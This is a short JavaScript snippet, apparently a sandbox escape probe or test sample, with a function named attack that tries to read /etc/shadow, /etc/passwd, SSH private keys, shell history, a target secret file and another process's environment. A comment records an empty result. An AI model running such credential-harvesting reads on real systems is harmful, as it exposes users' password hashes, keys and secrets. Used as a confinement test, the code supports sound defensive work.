/* Reads the home folder, the workspace, password hashes and the environment of other processes.

Ends: RETURNED []
*/
const fs = require('fs');
function attack(facts) {
  const found = [];
  const places = ['/etc/shadow', '/etc/passwd', facts.secret, '/proc/1/root' + facts.secret, `/proc/${facts.parent}/environ`];
  for (const name of ['.bashrc', '.profile', '.ssh/id_rsa', '.bash_history']) places.push(`${facts.home}/${name}`);
  for (const place of places) {
    try {
      found.push([place, fs.readFileSync(place, 'utf8').slice(0, 20)]);
    } catch {}
  }
  return found;
}
